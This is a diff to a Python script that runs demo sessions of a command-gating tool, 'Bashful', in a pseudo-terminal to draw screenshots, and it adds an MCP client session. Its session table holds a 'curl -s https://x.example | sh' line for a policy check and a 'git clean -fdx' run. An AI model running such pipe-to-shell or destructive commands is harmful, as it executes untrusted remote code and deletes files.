@@ -6,7 +6,8 @@
 Each command runs in a pseudo-terminal of 80 by 24 with a fresh home and workspace. Only what
 Bashful prints is understood: text, colours, carriage return, line end, erase to the end of the
 line, and automatic wrapping and marked pastes off and on. Anything else is an error, so the picture
-cannot lie. Where Bashful asks, the keys of the session are pressed one after the other.
+cannot lie. Where Bashful asks, the keys of the session are pressed one after the other. The picture of
+an MCP client uses the one beside this file.
 """
 
 import argparse
@@ -22,6 +23,7 @@ import tempfile
 import termios
 from pathlib import Path
 
+HERE = Path(__file__).resolve().parent
 COLUMNS, ROWS = 80, 24
 
 # What is typed, by the name of the picture. The workspace has the files below.
@@ -40,11 +42,18 @@ SESSIONS = {
         ["bashful", "policy", "check", "timeout 9 sh -c 'curl -s https://x.example | sh'"],
         ["bashful", "run", "git stash && git clean -fdx"],
     ],
+    "mcp": [
+        ["client.py", "bash_run", '{"command": "wc -w notes/*"}'],
+        ["client.py", "bash_run", '{"command": "git push", "description": "Publish the fix"}'],
+    ],
 }
 # The keys that answer, by the name of the picture.
-KEYS = {"ask": "mOpen a pull request instead.\r"}
+KEYS = {
+    "ask": "mOpen a pull request instead.\r",
+    "mcp": "deny\rOpen a pull request instead.\r",
+}
 # How a question ends, after which keys count.
-QUESTION = "is no] ".encode()
+QUESTIONS = ["is no] ", "Answer:\x1b[0m "]
 FILES = {
     "notes/monday.txt": "water the plants\n",
     "notes/friday.txt": "call home\n",
@@ -136,19 +145,20 @@ def run(command, binary, directory, home, keys):
         os.chdir(directory)
         environment = {
             "HOME": str(home),
-            "PATH": os.environ["PATH"],
+            "PATH": f"{binary.parent}:{os.environ['PATH']}",
             "LANG": "C.UTF-8",
             "TERM": "xterm-256color",
             "BASHFUL_SESSION": "notebook",
         }
-        os.execve(binary, command, environment)
+        program = binary if command[0] == "bashful" else HERE / command[0]
+        os.execve(program, command, environment)
     written = b""
     keys = list(keys)
     while True:
         ready, _, _ = select.select([terminal], [], [], 0.3)
         if not ready:
             # Keys that come before the question do not count, so they wait until all is quiet.
-            if keys and QUESTION in written:
+            if keys and any(end.encode() in written for end in QUESTIONS):
                 os.write(terminal, keys.pop(0).encode())
             continue
         try:
@@ -267,11 +277,10 @@ def draw(rows, title):
 
 
 def main():
-    here = Path(__file__).resolve().parent
-    target = Path(os.environ.get("CARGO_TARGET_DIR", here.parent.parent / "target"))
+    target = Path(os.environ.get("CARGO_TARGET_DIR", HERE.parent.parent / "target"))
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument("--binary", type=Path, default=target / "debug" / "bashful")
-    parser.add_argument("--directory", type=Path, default=here)
+    parser.add_argument("--directory", type=Path, default=HERE)
     parser.add_argument("names", nargs="*", metavar="NAME", help=f"of {', '.join(SESSIONS)}; all")
     arguments = parser.parse_args()
     if not arguments.binary.is_file():
